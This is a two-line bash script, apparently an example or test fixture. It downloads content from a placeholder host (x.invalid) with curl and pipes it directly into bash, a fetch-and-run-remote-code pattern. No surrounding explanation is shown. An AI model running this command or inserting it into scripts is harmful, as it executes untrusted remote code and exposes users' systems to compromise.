#!/bin/bash
c=$(curl -s http://x.invalid/a); echo "$c" | bash
